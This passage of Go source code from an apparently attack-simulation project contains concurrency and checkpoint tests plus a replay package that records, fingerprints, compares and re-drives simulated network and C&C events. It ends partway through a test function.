	for g := 0; g < 4; g++ {
		wg.Add(1)
		go func(g int) {
			defer wg.Done()
			for round := 0; round < 20; round++ {
				items := make([]string, 17)
				for i := range items {
					items[i] = fmt.Sprintf("g%d-r%d-j%d", g, round, i)
				}
				out, err := Map(r, items, func(_ int, id string) (uint64, error) {
					return work(int64(g), id), nil
				})
				if err != nil {
					t.Error(err)
					return
				}
				for i, id := range items {
					if out[i] != work(int64(g), id) {
						t.Errorf("batch g=%d round=%d item %d mismatch", g, round, i)
						return
					}
				}
			}
		}(g)
	}
	wg.Wait()
}

// atomic32 is a tiny counter helper so the test file needs no extra
// imports beyond the stress test's needs.
type atomic32 struct {
	mu sync.Mutex
	n  int
}

func (a *atomic32) inc() {
	a.mu.Lock()
	a.n++
	a.mu.Unlock()
}

func (a *atomic32) load() int {
	a.mu.Lock()
	defer a.mu.Unlock()
	return a.n
}

// TestChunksCoverExactly pins the tiling helper: every index in [0, n)
// appears in exactly one range, ranges are in order, and none is empty.
func TestChunksCoverExactly(t *testing.T) {
	for _, c := range []struct{ n, workers int }{
		{0, 4}, {1, 1}, {1, 8}, {15, 1}, {16, 4}, {100, 1},
		{100, 7}, {1000, 8}, {3, 16}, {64, 64},
	} {
		chunks := Chunks(c.n, c.workers)
		next := 0
		for _, ch := range chunks {
			if ch[0] != next {
				t.Fatalf("n=%d workers=%d: range starts at %d, want %d", c.n, c.workers, ch[0], next)
			}
			if ch[1] <= ch[0] {
				t.Fatalf("n=%d workers=%d: empty range %v", c.n, c.workers, ch)
			}
			next = ch[1]
		}
		if next != c.n {
			t.Fatalf("n=%d workers=%d: ranges cover [0,%d), want [0,%d)", c.n, c.workers, next, c.n)
		}
	}
}

// TestChunksSequentialIsSingle pins the no-overhead property for the
// sequential case: one worker means one chunk for any study size small
// enough to matter.
func TestChunksSequentialIsSingle(t *testing.T) {
	for _, n := range []int{1, 10, 100} {
		if got := len(Chunks(n, 1)); got != 1 {
			t.Fatalf("Chunks(%d, 1) = %d ranges, want 1", n, got)
		}
	}
}

// TestChunksRespectMinimumSpan ensures tiling never fragments below the
// scheduling-overhead floor.
func TestChunksRespectMinimumSpan(t *testing.T) {
	for _, c := range []struct{ n, workers int }{{100, 64}, {33, 8}, {17, 16}} {
		for _, ch := range Chunks(c.n, c.workers) {
			if span := ch[1] - ch[0]; span < minChunk && len(Chunks(c.n, c.workers)) > 1 {
				t.Fatalf("n=%d workers=%d: span %d below minimum %d", c.n, c.workers, span, minChunk)
			}
		}
	}
}

// memCkpt is an in-memory Checkpoint for ResumeMap tests.
type memCkpt struct {
	mu      sync.Mutex
	chunks  map[string][]byte
	commits int
	fail    error // non-nil makes Commit fail
}

func newMemCkpt() *memCkpt { return &memCkpt{chunks: make(map[string][]byte)} }

func (c *memCkpt) Lookup(key string) ([]byte, bool) {
	c.mu.Lock()
	defer c.mu.Unlock()
	b, ok := c.chunks[key]
	return b, ok
}

func (c *memCkpt) Commit(key string, payload []byte) error {
	c.mu.Lock()
	defer c.mu.Unlock()
	if c.fail != nil {
		return c.fail
	}
	c.commits++
	c.chunks[key] = append([]byte(nil), payload...)
	return nil
}

// resumeRows is the pure chunk function ResumeMap tests run: rows are
// a function of the index alone, so any chunk layout folds to the same
// sequence.
func resumeRows(lo, hi int) ([]int, error) {
	out := make([]int, 0, hi-lo)
	for i := lo; i < hi; i++ {
		out = append(out, i*i+7)
	}
	return out, nil
}

func flatten(chunks [][]int) []int {
	var out []int
	for _, c := range chunks {
		out = append(out, c...)
	}
	return out
}

// TestResumeMapMatchesSequential: with or without a checkpoint, at any
// worker count, ResumeMap folds to the sequential result.
func TestResumeMapMatchesSequential(t *testing.T) {
	const n = 300
	want, _ := resumeRows(0, n)
	for _, workers := range []int{1, 4, 8} {
		for _, ckpt := range []Checkpoint{nil, newMemCkpt()} {
			got, err := ResumeMap(New(workers), n, ckpt, resumeRows)
			if err != nil {
				t.Fatalf("workers=%d: %v", workers, err)
			}
			if fmt.Sprint(flatten(got)) != fmt.Sprint(want) {
				t.Fatalf("workers=%d ckpt=%v: fold diverges from sequential", workers, ckpt != nil)
			}
		}
	}
}

// TestResumeMapSkipsCommittedChunks: a second pass over a fully
// committed checkpoint recomputes nothing; a tampered (undecodable)
// payload recomputes exactly its own chunk.
func TestResumeMapSkipsCommittedChunks(t *testing.T) {
	const n = 300
	ckpt := newMemCkpt()
	r := New(4)
	want, _ := ResumeMap(r, n, ckpt, resumeRows)
	spans := Chunks(n, 4)
	if ckpt.commits != len(spans) {
		t.Fatalf("first pass committed %d chunks, want %d", ckpt.commits, len(spans))
	}

	var computes int
	var mu sync.Mutex
	counting := func(lo, hi int) ([]int, error) {
		mu.Lock()
		computes++
		mu.Unlock()
		return resumeRows(lo, hi)
	}
	got, err := ResumeMap(r, n, ckpt, counting)
	if err != nil {
		t.Fatal(err)
	}
	if computes != 0 {
		t.Fatalf("resume over a complete checkpoint recomputed %d chunks", computes)
	}
	if fmt.Sprint(flatten(got)) != fmt.Sprint(flatten(want)) {
		t.Fatal("resumed fold diverges from computed fold")
	}

	// Corrupt one committed payload: only that chunk recomputes.
	sp := spans[len(spans)/2]
	ckpt.chunks[ChunkKey(n, sp[0], sp[1])] = []byte("{torn")
	computes = 0
	got, err = ResumeMap(r, n, ckpt, counting)
	if err != nil {
		t.Fatal(err)
	}
	if computes != 1 {
		t.Fatalf("tampered checkpoint recomputed %d chunks, want 1", computes)
	}
	if fmt.Sprint(flatten(got)) != fmt.Sprint(flatten(want)) {
		t.Fatal("fold after tamper-recompute diverges")
	}
}

// TestResumeMapLayoutMismatchRecomputes: a checkpoint taken at one
// worker count misses at another layout (different spans) but the fold
// stays identical — stale layouts degrade to recompute, never corrupt.
func TestResumeMapLayoutMismatchRecomputes(t *testing.T) {
	const n = 300
	ckpt := newMemCkpt()
	if _, err := ResumeMap(New(4), n, ckpt, resumeRows); err != nil {
		t.Fatal(err)
	}
	got, err := ResumeMap(New(1), n, ckpt, resumeRows)
	if err != nil {
		t.Fatal(err)
	}
	want, _ := resumeRows(0, n)
	if fmt.Sprint(flatten(got)) != fmt.Sprint(want) {
		t.Fatal("cross-layout resume diverges from sequential")
	}
}

// TestResumeMapCommitFailureAborts: a checkpoint that cannot persist
// aborts the batch instead of silently losing durability.
func TestResumeMapCommitFailureAborts(t *testing.T) {
	ckpt := newMemCkpt()
	ckpt.fail = errors.New("disk full")
	if _, err := ResumeMap(New(2), 300, ckpt, resumeRows); err == nil || !strings.Contains(err.Error(), "commit checkpoint") {
		t.Fatalf("commit failure not surfaced: %v", err)
	}
}
