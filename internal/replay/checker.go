package replay

import (
	"bytes"
	"fmt"
	"strings"
	"time"
)

// Checker verifies a live event stream against a recorded log as the
// events happen. The first mismatch is latched as a Divergence carrying
// the exact event index and both events; everything after the first
// divergence is ignored (one behavioural change cascades, and the first
// index is the bisection answer).
type Checker struct {
	want    []Event
	idx     int
	div     *Divergence
	wantBuf []byte
	liveBuf []byte
}

// NewChecker builds a checker expecting the recorded event sequence.
func NewChecker(want []Event) *Checker { return &Checker{want: want} }

// observe compares one live event against the expectation at the
// current index.
func (c *Checker) observe(live Event) {
	if c.div != nil {
		return
	}
	if c.idx >= len(c.want) {
		c.div = &Divergence{Index: c.idx, Live: cloneEvent(live)}
		c.idx++
		return
	}
	rec := &c.want[c.idx]
	c.wantBuf = rec.appendTo(c.wantBuf[:0])
	c.liveBuf = live.appendTo(c.liveBuf[:0])
	if !bytes.Equal(c.wantBuf, c.liveBuf) {
		c.div = &Divergence{Index: c.idx, Recorded: cloneEvent(*rec), Live: cloneEvent(live)}
	}
	c.idx++
}

// Seen reports how many live events were observed.
func (c *Checker) Seen() int { return c.idx }

// Divergence returns the first mismatch observed so far, or nil.
func (c *Checker) Divergence() *Divergence { return c.div }

// Finish completes the check: if the live run produced fewer events
// than the log (and no earlier mismatch), that truncation is itself a
// divergence at the first missing index.
func (c *Checker) Finish() *Divergence {
	if c.div == nil && c.idx < len(c.want) {
		c.div = &Divergence{Index: c.idx, Recorded: cloneEvent(c.want[c.idx])}
	}
	return c.div
}

// Divergence is one behavioural difference between a recorded run and a
// live one, pinned to the exact event index. Recorded is nil when the
// live run produced events past the end of the log; Live is nil when
// the live run ended before the log did.
type Divergence struct {
	Index    int
	Recorded *Event
	Live     *Event
}

// String renders the divergence as a before/after event diff.
func (d *Divergence) String() string {
	var b strings.Builder
	fmt.Fprintf(&b, "divergence at event #%d\n", d.Index)
	switch {
	case d.Recorded == nil:
		fmt.Fprintf(&b, "  recorded: <end of log>\n  live:     %s\n", d.Live)
	case d.Live == nil:
		fmt.Fprintf(&b, "  recorded: %s\n  live:     <run ended>\n", d.Recorded)
	default:
		fmt.Fprintf(&b, "  recorded: %s\n  live:     %s\n", d.Recorded, d.Live)
		if fields := d.ChangedFields(); len(fields) > 0 {
			fmt.Fprintf(&b, "  changed:  %s\n", strings.Join(fields, ", "))
		}
	}
	return strings.TrimRight(b.String(), "\n")
}

// ChangedFields renders the per-field before → after differences of the
// two events, or nil when either side of the divergence is missing
// (truncation or extra-event divergences have nothing to diff).
func (d *Divergence) ChangedFields() []string {
	if d.Recorded == nil || d.Live == nil {
		return nil
	}
	return diffFields(d.Recorded, d.Live)
}

// diffFields lists the fields that differ between two events, with
// before → after values.
func diffFields(a, b *Event) []string {
	var out []string
	add := func(name string, av, bv any) {
		if av != bv {
			out = append(out, fmt.Sprintf("%s: %v → %v", name, av, bv))
		}
	}
	add("kind", a.Kind, b.Kind)
	add("time", a.Time, b.Time)
	add("segment", a.Segment, b.Segment)
	add("src", a.Src, b.Src)
	add("dst", a.Dst, b.Dst)
	add("proto", a.Proto, b.Proto)
	add("size", a.Size, b.Size)
	if !bytes.Equal(a.Payload, b.Payload) {
		out = append(out, fmt.Sprintf("payload: %d bytes differ at offset %d",
			len(b.Payload), firstDiff(a.Payload, b.Payload)))
	}
	add("src_port", a.SrcPort, b.SrcPort)
	add("dst_port", a.DstPort, b.DstPort)
	add("seq", a.Seq, b.Seq)
	add("ack", a.Ack, b.Ack)
	add("flags", a.Flags, b.Flags)
	add("bot", a.Bot, b.Bot)
	add("path", a.Path, b.Path)
	add("status", a.Status, b.Status)
	return out
}

// firstDiff returns the first offset at which two byte slices differ.
func firstDiff(a, b []byte) int {
	n := len(a)
	if len(b) < n {
		n = len(b)
	}
	for i := 0; i < n; i++ {
		if a[i] != b[i] {
			return i
		}
	}
	return n
}

// cloneEvent deep-copies an event so divergence reports survive pooled
// payload recycling.
func cloneEvent(e Event) *Event {
	cp := e
	if e.Payload != nil {
		cp.Payload = append([]byte(nil), e.Payload...)
	}
	return &cp
}

// Diff compares two event sequences offline and returns the first
// divergence, or nil when they are identical. It is the log-vs-log
// counterpart of a live Checker run.
func Diff(a, b []Event) *Divergence {
	c := NewChecker(a)
	for _, ev := range b {
		c.observe(ev)
		if c.div != nil {
			break
		}
	}
	return c.Finish()
}

// normalizeTimes returns a copy of events with every timestamp divided
// by div — the expectation stream for a time-compressed replay.
func normalizeTimes(events []Event, div int) []Event {
	if div <= 1 {
		return events
	}
	out := append([]Event(nil), events...)
	for i := range out {
		out[i].Time = time.Duration(int64(out[i].Time) / int64(div))
	}
	return out
}
