package replay

import (
	"bufio"
	"crypto/sha256"
	"encoding/binary"
	"encoding/hex"
	"errors"
	"fmt"
	"io"
	"os"
)

// The log file format: a 5-byte header (magic + version), then one
// length-prefixed record per event. Record bytes after the header are
// exactly the bytes the streaming fingerprint hashes, so the fingerprint
// of a log file can be recomputed from the file alone.
var logMagic = [4]byte{'M', 'P', 'R', 'L'}

// LogVersion is bumped when the canonical event encoding changes.
const LogVersion = 1

// ErrBadLog reports a log that is not a replay log or uses an
// incompatible version.
var ErrBadLog = errors.New("replay: not a replay log (bad magic or version)")

// maxRecord guards log readers against corrupt length prefixes.
const maxRecord = 16 << 20

// writeHeader emits the log magic and version.
func writeHeader(w io.Writer) error {
	_, err := w.Write([]byte{logMagic[0], logMagic[1], logMagic[2], logMagic[3], LogVersion})
	return err
}

// ReadLog decodes every event of a recorded log, verifying the header
// and each record's framing.
func ReadLog(r io.Reader) ([]Event, error) {
	br := bufio.NewReader(r)
	var hdr [5]byte
	if _, err := io.ReadFull(br, hdr[:]); err != nil {
		return nil, fmt.Errorf("%w: %v", ErrBadLog, err)
	}
	if [4]byte(hdr[:4]) != logMagic || hdr[4] != LogVersion {
		return nil, ErrBadLog
	}
	var events []Event
	var lenBuf [4]byte
	var body []byte
	for {
		if _, err := io.ReadFull(br, lenBuf[:]); err != nil {
			if err == io.EOF {
				return events, nil
			}
			return nil, fmt.Errorf("replay: truncated record length after event %d: %v", len(events), err)
		}
		n := binary.LittleEndian.Uint32(lenBuf[:])
		if n > maxRecord {
			return nil, fmt.Errorf("replay: record %d claims %d bytes (corrupt log?)", len(events), n)
		}
		if cap(body) < int(n) {
			body = make([]byte, n)
		}
		body = body[:n]
		if _, err := io.ReadFull(br, body); err != nil {
			return nil, fmt.Errorf("replay: truncated record %d: %v", len(events), err)
		}
		ev, used, err := decodeEvent(body)
		if err != nil {
			return nil, fmt.Errorf("replay: record %d: %w", len(events), err)
		}
		if used != int(n) {
			return nil, fmt.Errorf("replay: record %d: %d trailing bytes", len(events), int(n)-used)
		}
		events = append(events, ev)
	}
}

// ReadLogFile is ReadLog over a file path.
func ReadLogFile(path string) ([]Event, error) {
	f, err := os.Open(path)
	if err != nil {
		return nil, fmt.Errorf("replay: %w", err)
	}
	defer f.Close()
	events, err := ReadLog(f)
	if err != nil {
		return nil, fmt.Errorf("replay: %s: %w", path, err)
	}
	return events, nil
}

// FingerprintEvents computes the divergence fingerprint of an event
// sequence: the hex SHA-256 of the canonical length-prefixed record
// stream. A Recorder's streaming Fingerprint over the same events
// produces the same value, as does hashing a log file's bytes after the
// header.
func FingerprintEvents(events []Event) string {
	h := sha256.New()
	var scratch []byte
	var lenBuf [4]byte
	for i := range events {
		scratch = events[i].appendTo(scratch[:0])
		binary.LittleEndian.PutUint32(lenBuf[:], uint32(len(scratch)))
		h.Write(lenBuf[:])
		h.Write(scratch)
	}
	return hex.EncodeToString(h.Sum(nil))
}

// Filter returns the events whose kind is in kinds, preserving order.
func Filter(events []Event, kinds ...Kind) []Event {
	keep := func(k Kind) bool {
		for _, want := range kinds {
			if k == want {
				return true
			}
		}
		return false
	}
	var out []Event
	for _, e := range events {
		if keep(e.Kind) {
			out = append(out, e)
		}
	}
	return out
}
