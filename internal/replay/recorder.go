package replay

import (
	"crypto/sha256"
	"encoding/binary"
	"encoding/hex"
	"hash"
	"io"
	"time"

	"masterparasite/internal/netsim"
	"masterparasite/internal/tcpsim"
)

// Recorder captures a canonical event stream: every event is encoded
// once, folded into the streaming SHA-256 divergence fingerprint,
// appended to the in-memory event list, and (when a writer is attached)
// written to the append-only log. The same Recorder therefore serves as
// the capture path, the fingerprint computer, and the in-memory source
// for a Replayer or Checker.
type Recorder struct {
	w       io.Writer
	h       hash.Hash
	scratch []byte
	events  []Event
	err     error
}

// NewRecorder starts a recorder. w receives the binary log (header
// first); pass nil to record fingerprint and in-memory events only.
func NewRecorder(w io.Writer) *Recorder {
	r := &Recorder{w: w, h: sha256.New()}
	if w != nil {
		r.err = writeHeader(w)
	}
	return r
}

// Add captures one event. The event's payload is copied, so callers may
// hand in views of pooled buffers.
func (r *Recorder) Add(ev Event) {
	r.scratch = ev.appendTo(r.scratch[:0])
	var lenBuf [4]byte
	binary.LittleEndian.PutUint32(lenBuf[:], uint32(len(r.scratch)))
	r.h.Write(lenBuf[:])
	r.h.Write(r.scratch)
	if r.w != nil && r.err == nil {
		if _, err := r.w.Write(lenBuf[:]); err != nil {
			r.err = err
		} else if _, err := r.w.Write(r.scratch); err != nil {
			r.err = err
		}
	}
	if ev.Payload != nil {
		ev.Payload = append([]byte(nil), ev.Payload...)
	}
	r.events = append(r.events, ev)
}

// Events returns the captured events in order.
func (r *Recorder) Events() []Event { return r.events }

// Count reports how many events were captured.
func (r *Recorder) Count() int { return len(r.events) }

// CountKind reports how many captured events have the given kind.
func (r *Recorder) CountKind(k Kind) int {
	n := 0
	for i := range r.events {
		if r.events[i].Kind == k {
			n++
		}
	}
	return n
}

// Fingerprint returns the divergence fingerprint of the stream so far:
// the hex SHA-256 of the canonical record bytes.
func (r *Recorder) Fingerprint() string {
	return hex.EncodeToString(r.h.Sum(nil))
}

// Err reports the first log-write error, if any.
func (r *Recorder) Err() error { return r.err }

// Tap adapts one scenario's observation hooks — the netsim wire tap and
// the C&C exchange observer — into canonical events, fanned out to a
// recorder and/or a checker (either may be nil). Time for C&C events is
// read from the attached network's virtual clock.
type Tap struct {
	rec   *Recorder
	chk   *Checker
	clock *netsim.Network
	// keep filters which kinds are captured; nil keeps everything. The
	// Replayer uses it to recapture only the send-level stream.
	keep func(Kind) bool
}

// NewTap builds a tap feeding rec and/or chk.
func NewTap(rec *Recorder, chk *Checker) *Tap { return &Tap{rec: rec, chk: chk} }

// Attach installs the tap as the network's wire tap and binds the
// virtual clock.
func (t *Tap) Attach(n *netsim.Network) {
	t.clock = n
	n.SetWireTap(t.wire)
}

// emit dispatches one canonical event.
func (t *Tap) emit(ev Event) {
	if t.keep != nil && !t.keep(ev.Kind) {
		return
	}
	if t.rec != nil {
		t.rec.Add(ev)
	}
	if t.chk != nil {
		t.chk.observe(ev)
	}
}

// wire converts one wire event (payload valid only during the call) into
// its canonical event, plus the derived TCP annotation for TCP sends.
func (t *Tap) wire(we netsim.WireEvent) {
	ev := Event{
		Kind:    wireKind(we.Kind),
		Time:    we.Time,
		Segment: we.Segment,
		Src:     string(we.Src),
		Dst:     string(we.Dst),
		Proto:   uint8(we.Proto),
		Size:    uint32(len(we.Payload)),
	}
	if we.Kind == netsim.WireSend || we.Kind == netsim.WireDrop {
		ev.Payload = we.Payload
	}
	t.emit(ev)
	if we.Kind != netsim.WireSend || we.Proto != netsim.ProtoTCP {
		return
	}
	seg, err := tcpsim.ParseSegment(we.Payload)
	if err != nil {
		return // unparseable TCP payload: the send event already has the bytes
	}
	t.emit(Event{
		Kind: KindTCP, Time: we.Time,
		Segment: we.Segment, Src: string(we.Src), Dst: string(we.Dst),
		Proto: uint8(we.Proto), Size: uint32(len(seg.Payload)),
		SrcPort: seg.SrcPort, DstPort: seg.DstPort,
		Seq: seg.Seq, Ack: seg.Ack, Flags: uint8(seg.Flags),
	})
}

// ObserveCNC captures one covert-channel exchange, stamped with the
// attached network's virtual time.
func (t *Tap) ObserveCNC(bot, path string, status, respBytes int) {
	var now time.Duration
	if t.clock != nil {
		now = t.clock.Now()
	}
	t.emit(Event{
		Kind: KindCNC, Time: now,
		Bot: bot, Path: path,
		Status: uint16(status), Size: uint32(respBytes),
	})
}

// wireKind maps netsim wire kinds onto replay kinds.
func wireKind(k netsim.WireKind) Kind {
	switch k {
	case netsim.WireSend:
		return KindSend
	case netsim.WireDeliver:
		return KindDeliver
	case netsim.WireTapDeliver:
		return KindTap
	case netsim.WireDupDeliver:
		return KindDup
	default:
		return KindDrop
	}
}
