package replay

import (
	"fmt"
	"io"
	"time"

	"masterparasite/internal/netsim"
)

// Replayer re-drives a recorded run. The log's send events are the
// ground truth of what went onto the wire; Drive re-injects each of
// them, at its recorded virtual time, into a fresh live netsim.Network
// whose endpoints are stubs — the outbound legs of the original run
// (browser, servers, C&C handlers) do not execute. The re-driven
// traffic is re-captured through the same canonical tap, so the
// send-level stream must reproduce the log exactly: any difference —
// including one injected deliberately as a perturbation — is reported
// as a divergence at the exact event index.
type Replayer struct {
	events []Event
}

// NewReplayer wraps an already-decoded event sequence.
func NewReplayer(events []Event) *Replayer { return &Replayer{events: events} }

// Load reads a binary log into a Replayer.
func Load(r io.Reader) (*Replayer, error) {
	events, err := ReadLog(r)
	if err != nil {
		return nil, err
	}
	return &Replayer{events: events}, nil
}

// LoadFile reads a log file into a Replayer.
func LoadFile(path string) (*Replayer, error) {
	events, err := ReadLogFile(path)
	if err != nil {
		return nil, err
	}
	return &Replayer{events: events}, nil
}

// Events returns the decoded log.
func (rp *Replayer) Events() []Event { return rp.events }

// Fingerprint returns the divergence fingerprint of the full log.
func (rp *Replayer) Fingerprint() string { return FingerprintEvents(rp.events) }

// DriveOptions tune a replay run. The zero value replays with original
// timing and no perturbation.
type DriveOptions struct {
	// TimeDiv compresses virtual time by an integer divisor (InfernoSIM's
	// --time-scale): every send is re-driven at time/TimeDiv, and the
	// comparison stream is normalized the same way, so ordering — and the
	// verdict — are preserved under compression. 0 or 1 replays at
	// original timing, where the re-captured send-level fingerprint must
	// equal the log's.
	TimeDiv int
	// ExtraLatency injects additional delay before every re-driven send —
	// the "what if the network were slower" perturbation. Any non-zero
	// value diverges at the first send.
	ExtraLatency time.Duration
	// DropEvery drops every Nth send (1-based; 0 disables) — injected
	// loss / timeout behaviour. The divergence index names the first
	// dropped event.
	DropEvery int
	// DupEvery re-sends every Nth send immediately after itself
	// (retry amplification). The divergence index names the first
	// duplicate.
	DupEvery int
}

// DriveResult is a replay run's outcome.
type DriveResult struct {
	// Sends is how many sends were re-driven (after drops and
	// duplicates).
	Sends int
	// Events is the size of the re-captured send-level stream.
	Events int
	// Fingerprint is the divergence fingerprint of the re-captured
	// stream; WantFingerprint is the fingerprint of the log's (time-
	// normalized) send-level stream. They are equal iff Divergence is
	// nil.
	Fingerprint     string
	WantFingerprint string
	// Divergence pins the first behavioural difference, nil when the
	// replay reproduced the log exactly.
	Divergence *Divergence
}

// Drive replays the log's sends through a live network with stubbed
// endpoints and verifies the re-captured stream against the log.
func (rp *Replayer) Drive(opts DriveOptions) (*DriveResult, error) {
	div := opts.TimeDiv
	if div < 1 {
		div = 1
	}
	// The expectation: the log's send-level stream, time-normalized to
	// match the compressed schedule.
	want := normalizeTimes(Filter(rp.events, KindSend, KindTCP), div)

	net := netsim.New()
	segs := make(map[string]*netsim.Segment)
	taps := make(map[string]*netsim.Tap)
	stubs := make(map[string]map[string]bool) // segment → stubbed addrs
	for i := range rp.events {
		ev := &rp.events[i]
		if ev.Kind != KindSend {
			continue
		}
		seg, ok := segs[ev.Segment]
		if !ok {
			// Zero latency everywhere: timing comes from the recorded
			// schedule, not from re-modelled links.
			seg = net.MustSegment(ev.Segment, 0)
			segs[ev.Segment] = seg
			taps[ev.Segment] = seg.AttachTap(0, nil)
			stubs[ev.Segment] = make(map[string]bool)
		}
		if !stubs[ev.Segment][ev.Dst] {
			stubs[ev.Segment][ev.Dst] = true
			// The stubbed outbound leg: receives and discards, so
			// deliveries complete without running any real endpoint.
			if _, err := seg.Attach(netsim.Addr(ev.Dst), 0, func(time.Duration, netsim.Packet) {}); err != nil {
				return nil, fmt.Errorf("replay: stub %s on %s: %w", ev.Dst, ev.Segment, err)
			}
		}
	}

	rec := NewRecorder(nil)
	chk := NewChecker(want)
	tap := NewTap(rec, chk)
	tap.keep = func(k Kind) bool { return k == KindSend || k == KindTCP }
	tap.Attach(net)

	sendIdx := 0
	for i := range rp.events {
		ev := &rp.events[i]
		if ev.Kind != KindSend {
			continue
		}
		sendIdx++
		if opts.DropEvery > 0 && sendIdx%opts.DropEvery == 0 {
			continue
		}
		at := time.Duration(int64(ev.Time)/int64(div)) + opts.ExtraLatency
		pkt := netsim.Packet{
			Src: netsim.Addr(ev.Src), Dst: netsim.Addr(ev.Dst),
			Proto: netsim.Protocol(ev.Proto), Payload: ev.Payload,
		}
		t := taps[ev.Segment]
		net.Schedule(at, func() { t.Inject(pkt) })
		if opts.DupEvery > 0 && sendIdx%opts.DupEvery == 0 {
			net.Schedule(at, func() { t.Inject(pkt) })
		}
	}
	net.Run(0)

	return &DriveResult{
		Sends:           rec.CountKind(KindSend),
		Events:          rec.Count(),
		Fingerprint:     rec.Fingerprint(),
		WantFingerprint: FingerprintEvents(want),
		Divergence:      chk.Finish(),
	}, nil
}
