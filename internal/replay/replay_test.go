package replay

import (
	"bytes"
	"crypto/sha256"
	"encoding/hex"
	"testing"
	"time"

	"masterparasite/internal/netsim"
)

// sampleEvents covers every kind and every field.
func sampleEvents() []Event {
	return []Event{
		{Kind: KindSend, Time: 1500 * time.Microsecond, Segment: "wifi", Src: "victim", Dst: "web",
			Proto: 2, Size: 5, Payload: []byte("hello")},
		{Kind: KindTCP, Time: 1500 * time.Microsecond, Segment: "wifi", Src: "victim", Dst: "web",
			Proto: 2, Size: 3, SrcPort: 49152, DstPort: 80, Seq: 7, Ack: 9, Flags: 0x18},
		{Kind: KindDeliver, Time: 2 * time.Millisecond, Segment: "wifi", Src: "victim", Dst: "web",
			Proto: 2, Size: 5},
		{Kind: KindTap, Time: 2 * time.Millisecond, Segment: "wifi", Src: "victim", Dst: "web",
			Proto: 2, Size: 5},
		{Kind: KindDrop, Time: 3 * time.Millisecond, Segment: "wifi", Src: "web", Dst: "gone",
			Proto: 1, Size: 2, Payload: []byte("xx")},
		{Kind: KindCNC, Time: 4 * time.Millisecond, Bot: "bot-1", Path: "/meta/bot-1.svg",
			Status: 200, Size: 120},
	}
}

// TestLogRoundTrip locks the codec: encode → decode reproduces every
// field of every kind, and the streaming fingerprint equals both the
// hash of the log body and FingerprintEvents of the decoded events.
func TestLogRoundTrip(t *testing.T) {
	events := sampleEvents()
	var buf bytes.Buffer
	rec := NewRecorder(&buf)
	for _, e := range events {
		rec.Add(e)
	}
	if err := rec.Err(); err != nil {
		t.Fatal(err)
	}
	got, err := ReadLog(bytes.NewReader(buf.Bytes()))
	if err != nil {
		t.Fatal(err)
	}
	if len(got) != len(events) {
		t.Fatalf("decoded %d events, want %d", len(got), len(events))
	}
	for i := range events {
		w := events[i].appendTo(nil)
		g := got[i].appendTo(nil)
		if !bytes.Equal(w, g) {
			t.Errorf("event %d: decoded %+v, want %+v", i, got[i], events[i])
		}
	}
	// Streaming fingerprint == hash of the log body == recomputation
	// from the decoded events.
	sum := sha256.Sum256(buf.Bytes()[5:])
	if fp := rec.Fingerprint(); fp != hex.EncodeToString(sum[:]) {
		t.Errorf("streaming fingerprint %s != log-body hash", fp)
	}
	if fp := FingerprintEvents(got); fp != rec.Fingerprint() {
		t.Errorf("recomputed fingerprint %s != streaming %s", fp, rec.Fingerprint())
	}
}

func TestReadLogRejectsGarbage(t *testing.T) {
	if _, err := ReadLog(bytes.NewReader([]byte("not a log at all"))); err == nil {
		t.Fatal("garbage accepted")
	}
	// Valid header, truncated record.
	var buf bytes.Buffer
	rec := NewRecorder(&buf)
	rec.Add(sampleEvents()[0])
	if _, err := ReadLog(bytes.NewReader(buf.Bytes()[:buf.Len()-3])); err == nil {
		t.Fatal("truncated log accepted")
	}
}

// captureRun drives a deterministic two-host exchange and records it.
func captureRun(t *testing.T, extraLatency time.Duration) *Recorder {
	t.Helper()
	net := netsim.New()
	seg := net.MustSegment("lan", 100*time.Microsecond+extraLatency)
	var b *netsim.Interface
	a := seg.MustAttach("a", 0, nil)
	b = seg.MustAttach("b", 0, func(now time.Duration, pkt netsim.Packet) {
		if string(pkt.Payload) == "ping" {
			b.Send(netsim.Packet{Dst: "a", Proto: netsim.ProtoRaw, Payload: []byte("pong")})
		}
	})
	a.SetHandler(func(time.Duration, netsim.Packet) {})
	rec := NewRecorder(nil)
	NewTap(rec, nil).Attach(net)
	a.Send(netsim.Packet{Dst: "b", Proto: netsim.ProtoRaw, Payload: []byte("ping")})
	net.Run(0)
	return rec
}

// TestCheckerReportsExactIndex perturbs the link latency and asserts the
// live checker pins the divergence to the first affected event — and
// that the index matches an offline Diff of the two logs.
func TestCheckerReportsExactIndex(t *testing.T) {
	base := captureRun(t, 0)
	pert := captureRun(t, 50*time.Microsecond)
	if base.Fingerprint() == pert.Fingerprint() {
		t.Fatal("perturbed run fingerprints identically")
	}

	// Identical re-run: no divergence.
	chk := NewChecker(base.Events())
	for _, ev := range captureRun(t, 0).Events() {
		chk.observe(ev)
	}
	if d := chk.Finish(); d != nil {
		t.Fatalf("identical rerun diverged: %s", d)
	}

	offline := Diff(base.Events(), pert.Events())
	if offline == nil {
		t.Fatal("offline diff found no divergence")
	}
	chk = NewChecker(base.Events())
	for _, ev := range pert.Events() {
		chk.observe(ev)
	}
	live := chk.Finish()
	if live == nil {
		t.Fatal("live checker found no divergence")
	}
	if live.Index != offline.Index {
		t.Fatalf("live divergence at #%d, offline at #%d", live.Index, offline.Index)
	}
	// The sends at t=0 are unaffected; the first delivery (delayed by the
	// perturbation) is the first divergent event.
	if live.Recorded == nil || live.Live == nil {
		t.Fatalf("divergence should carry both events: %s", live)
	}
	if live.Recorded.Kind != KindDeliver {
		t.Errorf("divergent event kind = %s, want deliver", live.Recorded.Kind)
	}
	if live.Recorded.Time == live.Live.Time {
		t.Errorf("divergence is not the timing change: %s", live)
	}
}

func TestCheckerFlagsTruncationAndExtra(t *testing.T) {
	events := captureRun(t, 0).Events()

	chk := NewChecker(events)
	for _, ev := range events[:len(events)-1] {
		chk.observe(ev)
	}
	d := chk.Finish()
	if d == nil || d.Index != len(events)-1 || d.Live != nil {
		t.Fatalf("truncation not flagged: %v", d)
	}

	chk = NewChecker(events[:len(events)-1])
	for _, ev := range events {
		chk.observe(ev)
	}
	d = chk.Finish()
	if d == nil || d.Index != len(events)-1 || d.Recorded != nil {
		t.Fatalf("extra event not flagged: %v", d)
	}
}

// TestDriveReproducesFingerprint replays a recorded run through stub
// endpoints and requires the send-level stream to reproduce exactly —
// also under 10× time compression.
func TestDriveReproducesFingerprint(t *testing.T) {
	rec := captureRun(t, 0)
	rp := NewReplayer(rec.Events())

	res, err := rp.Drive(DriveOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if res.Divergence != nil {
		t.Fatalf("faithful drive diverged: %s", res.Divergence)
	}
	if res.Fingerprint != res.WantFingerprint {
